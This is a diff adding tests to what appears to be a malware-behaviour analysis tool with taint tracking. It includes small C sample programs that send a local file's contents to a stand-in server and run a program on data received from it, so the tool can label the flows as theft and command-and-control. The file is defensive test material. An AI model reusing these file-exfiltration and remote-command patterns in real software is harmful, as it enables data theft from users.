@@ -148,6 +148,61 @@ class Consequences(TaintTest):
         self.assertTrue(any(one["flow"] == flow["id"] for one in back), back)
         self.assertEqual(self.run_json("influence", run, "--on", "no such thing"), {"influences": []})
 
+    def test_what_had_a_part_in_a_packet(self):
+        """A packet with an echo of the server's word and a stolen file: where each came from, and where the file went."""
+        if not shutil.which("qemu-x86_64"):
+            self.skipTest("qemu-user is not installed")
+        source, program = self.scratch / "mixer.c", self.scratch / "mixer"
+        source.write_text(f"""
+            #define SERVER 0xcb007107
+            #define ENCODING 0
+            #include "{SOURCES}/client.h"
+            int main(int count, char** argument) {{
+              char word[64] = "", packet[256] = "got ";
+              const int s = dial({PORT});
+              if (recv(s, word, sizeof word - 1, 0) <= 0) return 1;
+              strncat(packet, word, 8);
+              const int f = open(argument[1], O_RDONLY);
+              const long n = read(f, packet + 12, 200);
+              if (n <= 0 || send(s, "hello", 5, 0) < 0 || send(s, packet, (size_t)(12 + n), 0) < 0) return 1;
+              take(s, word, sizeof word);
+              return 0;
+            }}""")
+        subprocess.run(["gcc", "-O1", "-w", source, "-o", program], check=True)
+        self.can_run()
+        replies = self.write("replies.toml", f'[[tcp]]\nport = {PORT}\nsteps = [{{ send = "ABCDEFGH" }}, {{ expect = "hello", send = "bye", close = true }}]\n')
+        folder = self.scratch / "out"
+        flow = self.flow(self.analyze(program, "--taint", "--replies", replies, "--args", "Documents/notes.txt", "--out", folder)[0])
+        self.assertEqual(flow.get("role"), "drop")
+        run = next(folder.glob("*/run.json")).parent
+
+        def ask(*question):
+            return [one for one in self.run_json("influence", run, *question)["influences"] if one["how"] == "content"]
+
+        # The stream that went out: hello, "got ", eight received bytes, the file.
+        echo, loot = 5 + 4, 5 + 12
+        told = ask("--on-flow", flow["id"], "--bytes", f"{echo}-{echo + 7}")
+        self.assertEqual([(one.get("flow"), one["bytes"], one["to_bytes"]) for one in told],
+                         [(flow["id"], [{"first": 0, "last": 7}], [{"first": echo, "last": echo + 7}])])
+        stolen = ask("--on-flow", flow["id"], "--bytes", f"{loot}-{loot + 15}")
+        self.assertEqual([(one["file"].rsplit("/", 1)[-1], one["bytes"][0]["first"]) for one in stolen], [("notes.txt", 0)])
+        self.assertEqual({tuple(sorted(one)) for one in stolen}, {tuple(sorted(set(stolen[0]) - {"flow"}))})
+        self.assertEqual(ask("--on-flow", flow["id"], "--bytes", "0-8"), [])
+        # By what it says, and by whom it went to.
+        self.assertEqual(ask("--on", "ABCDEFGH"), told)
+        self.assertEqual({one.get("file") or one["flow"] for one in ask("--on", f"{SERVER}:{PORT}")},
+                         {flow["id"], stolen[0]["file"]})
+        # The other way.
+        self.assertEqual([one["to_flow"] for one in ask("--flow", flow["id"], "--bytes", "2-3")], [flow["id"]])
+        for path in (stolen[0]["file"], "~/Documents/notes.txt"):
+            went = ask("--file", path, "--bytes", "3-4")
+            self.assertEqual([(one["to_flow"], one["to_bytes"][0]["first"]) for one in went], [(flow["id"], loot)])
+        self.assertEqual(ask("--file", "/etc/shadow"), [])
+        shown = self.run_program("influence", run, "--file", "~/Documents/notes.txt").stdout.decode()
+        self.assertIn(f"content  send {SERVER}:{PORT}  on flow {flow['id']}  bytes {loot}-", shown)
+        self.run_program("influence", run, "--file", "x", "--on", "y", status=2)
+        self.run_program("influence", run, "--on-flow", "1", "--bytes", "9-3", status=2)
+
     def test_a_chosen_file_is_followed_too(self):
         """A file that no thief looks for, until somebody says that it matters."""
         program = self.build("thief")
@@ -158,6 +213,41 @@ class Consequences(TaintTest):
         self.assertIsNone(plain.get("role"))
         self.assertEqual(chosen.get("role"), "drop")
         self.assertEqual([file["path"] for file in chosen["from_files"]], ["/etc/hosts"])
+
+    def test_table_look_ups_are_a_choice(self):
+        """What a table gives for received bytes is theirs, unless that is not wanted; the report says which."""
+        source = self.scratch / "table.c"
+        source.write_text(f"""
+            #define SERVER 0xcb007107
+            #define ENCODING 9
+            #include "{SOURCES}/client.h"
+            int main(int count, char** argument) {{
+              static char data[4096];
+              const long got = ask(atoi(argument[1]), "hello", data, sizeof data);
+              if (got > 0 && decode(data, got) > 0) run_program("/bin/echo", data);
+              return 0;
+            }}""")
+        program = self.scratch / "table"
+        subprocess.run(["gcc", "-O1", "-w", source, "-o", program], check=True)
+        self.can_run()
+        if not shutil.which("qemu-x86_64"):
+            self.skipTest("qemu-user is not installed")
+        replies = self.write("replies.toml", f'[[tcp]]\nport = {PORT}\nsteps = [{{ send = "ZnJvbSBhZmFy", close = true }}]\n')
+        options = ["--taint", "--replies", replies, "--args", str(PORT)]
+        for more, role, said in (([], "c2", "through look-ups in tables too"),
+                                 (["--no-taint-tables"], None, "but not through look-ups in tables")):
+            with self.subTest(more):
+                folder = self.scratch / f"out{len(more)}"
+                run = self.analyze(program, *options, *more, "--out", folder)[0]
+                self.check_schema("run", run)
+                self.assertEqual(self.flow(run).get("role"), role)
+                self.assertIs(run["taint_tables"], not more)
+                self.assertTrue(any("from afar" in " ".join(p["argv"]) for p in run["processes"]))
+                page = next(folder.glob("*/report.html")).read_text()
+                self.assertIs("but not through look-ups in tables" in page, bool(more))
+                shown = self.run_program("analyze", "--no-store", *options, *more, program).stdout.decode()
+                self.assertIn(said, shown)
+        self.run_program("analyze", "--no-taint-tables", program, status=2)
 
     def test_without_emulator_the_run_is_done_without(self):
         program = self.build("connectivity")
